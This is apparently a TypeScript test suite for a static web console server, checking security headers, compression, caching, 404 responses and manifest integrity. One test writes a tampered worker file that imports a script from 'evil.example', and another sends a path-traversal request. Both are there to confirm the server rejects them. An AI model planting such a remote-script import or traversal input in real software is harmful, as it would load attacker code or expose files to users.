import { cpSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { brotliDecompressSync, gunzipSync } from "node:zlib";
import { buildConsole } from "@coffer/console-app/build";
import { readManifest } from "@coffer/console-app/manifest";
import { pagePaths } from "@coffer/console-app/paths";
import { loadedPackages, testDirectory } from "@coffer/testkit";
import t from "tap";
import { readConfig } from "../src/config.ts";
import { createService } from "../src/service.ts";

const folder = join(testDirectory(t), "console");
await buildConsole(folder);
const { files } = readManifest(folder);
const config = (directory: string) =>
  readConfig({ COFFER_CONSOLE_DIR: directory, COFFER_LOG_LEVEL: "silent", COFFER_PORT: "0" });
const service = createService(config(folder));
const server = createServer(service.listener).listen(0, "127.0.0.1");
await new Promise((resolve) => server.once("listening", resolve));
t.teardown(() => server.close());
const { port } = server.address() as AddressInfo; // a TCP server has one
const url = `http://127.0.0.1:${port}`;
const script = files.find(({ path }) => /^assets\/page\..*\.js$/.test(path))?.path ?? "";
const worker = files.find(({ path }) => path.startsWith("assets/worker."))?.path ?? "";

await t.test("each page path answers with the page, which is asked for again each time", async (t) => {
  const html = readFileSync(join(folder, "index.html"), "utf8");
  for (const path of [...pagePaths, "/?from=somewhere"]) {
    const answer = await fetch(url + path);
    t.equal(answer.status, 200, path);
    t.equal(await answer.text(), html);
    t.equal(answer.headers.get("cache-control"), "no-cache");
  }
});

await t.test("the page has no network, no inline code, no frame and one worker address", async (t) => {
  const { headers } = await fetch(url);
  t.equal(
    headers.get("content-security-policy"),
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; font-src 'self'; worker-src 'self'; " +
      "manifest-src 'self'; connect-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; " +
      "require-trusted-types-for 'script'; trusted-types coffer-worker",
  );
  t.equal(headers.get("integrity-policy"), "blocked-destinations=(script)");
});

await t.test("the worker reaches its own origin only, and other files nothing", async (t) => {
  const of = async (path: string) => (await fetch(`${url}/${path}`)).headers.get("content-security-policy");
  t.equal(await of(worker), "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self'");
  t.equal(await of(script), "default-src 'none'; sandbox");
});

await t.test("every answer isolates the origin, also a refusal", async (t) => {
  for (const path of ["/", `/${script}`, `/${worker}`, "/nothing"]) {
    const { headers } = await fetch(url + path);
    t.equal(headers.get("cross-origin-opener-policy"), "same-origin", path);
    t.equal(headers.get("cross-origin-embedder-policy"), "require-corp", path);
    t.equal(headers.get("cross-origin-resource-policy"), "same-origin", path);
    t.equal(headers.get("referrer-policy"), "no-referrer", path);
    t.equal(headers.get("x-content-type-options"), "nosniff", path);
    const permissions = headers.get("permissions-policy") ?? "";
    t.match(permissions, /camera=\(\).*clipboard-write=\(self\)/, path);
    for (const feature of ["create", "get"])
      t.ok(permissions.split(", ").includes(`publickey-credentials-${feature}=(self)`), path);
    t.match(headers.get("x-request-id"), /^[\w-]+$/, path);
  }
});

await t.test("a hashed file never changes, and comes in the smallest form that the client takes", async (t) => {
  const plain = readFileSync(join(folder, script));
  const get = (accepted: string) => fetch(`${url}/${script}`, { headers: { "accept-encoding": accepted } });
  for (const [accepted, coding] of [
    ["br, gzip", "br"],
    ["gzip, deflate", "gzip"],
    ["br;q=0, gzip;q=0.5", "gzip"],
    ["identity", null],
    ["", null],
  ] as const) {
    const answer = await get(accepted);
    t.equal(answer.headers.get("content-encoding"), coding, accepted);
    t.equal(answer.headers.get("cache-control"), "public, max-age=31536000, immutable");
    t.equal(answer.headers.get("vary"), "Accept-Encoding");
    t.ok(Buffer.from(await answer.arrayBuffer()).equals(plain), accepted);
  }
  t.ok(brotliDecompressSync(readFileSync(join(folder, `${script}.br`))).equals(plain));
  t.ok(gunzipSync(readFileSync(join(folder, `${script}.gz`))).equals(plain));
});

await t.test("a browser that has a form gets 304, one that has another form gets the file", async (t) => {
  const get = (headers: Record<string, string>) => fetch(url, { headers: { "accept-encoding": "br", ...headers } });
  const tag = (await get({})).headers.get("etag") ?? "";
  const held = await get({ "if-none-match": tag });
  t.equal(held.status, 304);
  t.equal(await held.text(), "");
  t.match(held.headers.get("content-security-policy"), "connect-src 'none'");
  t.equal((await get({ "if-none-match": tag, "accept-encoding": "gzip" })).status, 200);
});

await t.test("HEAD has the headers alone", async (t) => {
  const answer = await fetch(url, { method: "HEAD", headers: { "accept-encoding": "identity" } });
  t.equal(answer.headers.get("content-length"), String(readFileSync(join(folder, "index.html")).byteLength));
  t.equal(await answer.text(), "");
});

await t.test("anything else is not found, in the form of the interface", async (t) => {
  for (const [method, path] of [
    ["GET", "/api/nothing"],
    ["GET", "/assets/../index.html"],
    ["GET", "/manifest.json"],
    ["GET", `/${script}.br`],
    ["GET", "/assets/page.js"],
    ["POST", "/"],
    ["DELETE", `/${script}`],
  ] as const) {
    const answer = await fetch(url + path.replace("..", "%2e%2e"), { method });
    t.equal(answer.status, 404, `${method} ${path}`);
    t.match(await answer.json(), { error: "not_found", request_id: /^[\w-]+$/ });
  }
});

await t.test("requests are measured by the kind of file", async (t) => {
  const text = await service.telemetry.metrics.registry.metrics();
  for (const route of ["/index.html", "/assets/{file}", "unmatched"]) t.match(text, `http_route="${route}"`);
  t.match(await service.ready(), { ready: true });
});

await t.test("a file that is not the one in the manifest stops the start", (t) => {
  const copy = join(testDirectory(t), "copy");
  cpSync(folder, copy, { recursive: true });
  writeFileSync(join(copy, worker), "importScripts('https://evil.example/x.js')");
  t.throws(() => createService(config(copy)), { message: /COFFER_CONSOLE_DIR: .*is not the file that the manifest/ });
  t.throws(() => createService(config(join(copy, "none"))), { message: /manifest\.json cannot be read/ });
  t.end();
});

await t.test("the service has no address of a store or of the bus, and no client of the interface", (t) => {
  t.same(
    Object.keys(config(folder)).filter((name) => /URL|CREDENTIALS|SECRET|KEYS|PASSWORD/.test(name)),
    [],
  );
  const loaded = loadedPackages(new URL("../src/service.ts", import.meta.url));
  for (const absent of ["@coffer/bus", "@coffer/postgres", "@coffer/sdk", "@coffer/crypto", "preact", "esbuild"])
    t.notOk(loaded.includes(absent), absent);
  t.end();
});
